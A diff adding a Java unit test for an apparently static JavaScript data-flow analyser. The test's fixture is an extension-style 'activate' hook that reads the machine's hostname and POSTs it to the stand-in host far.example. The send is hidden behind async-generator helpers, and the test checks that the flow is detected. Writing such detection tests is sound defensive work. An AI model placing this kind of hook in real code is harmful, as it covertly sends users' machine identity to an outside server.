@@ -229,4 +229,32 @@ class CompiledGeneratorsTest {
 
         assertThat(analysis.flowNames()).isEmpty();
     }
+
+    /** The helpers as TypeScript 5.9 writes them for ES2017, shortened by what has no part in it. */
+    @Test
+    void followsAsynchronousGeneratorsOfTypeScript() {
+        Analysis analysis = Analysis.of("""
+                var wrap = function (v) { return this instanceof wrap ? (this.v = v, this) : new wrap(v); };
+                var generating = function (self, given, generator) {
+                  if (!Symbol.asyncIterator) throw new TypeError("Symbol.asyncIterator is not defined.");
+                  var g = generator.apply(self, given || []), i, q = [];
+                  return i = {}, verb("next"), i[Symbol.asyncIterator] = function () { return this; }, i;
+                  function verb(n) { i[n] = v => new Promise((a, b) => { q.push([n, v, a, b]) > 1 || resume(n, v); }); }
+                  function resume(n, v) { try { step(g[n](v)); } catch (e) { settle(q[0][3], e); } }
+                  function step(r) { r.value instanceof wrap ? Promise.resolve(r.value.v).then(fulfill, reject) : settle(q[0][2], r); }
+                  function fulfill(value) { resume("next", value); }
+                  function reject(value) { resume("throw", value); }
+                  function settle(f, v) { if (f(v), q.shift(), q.length) resume(q[0][0], q[0][1]); }
+                };
+                var values = function (o) { return o[Symbol.asyncIterator].call(o); };
+                function pages(text) { return generating(this, arguments, function* () { yield yield wrap(text); }); }
+                exports.activate = async () => {
+                  for (var all = values(pages(require('os').hostname())), step; step = await all.next(), !step.done;) {
+                    await fetch('https://far.example/', { method: 'POST', body: step.value });
+                  }
+                };
+                """);
+
+        assertThat(analysis.flowNames()).containsExactly("account-identity -> network-send");
+    }
 }
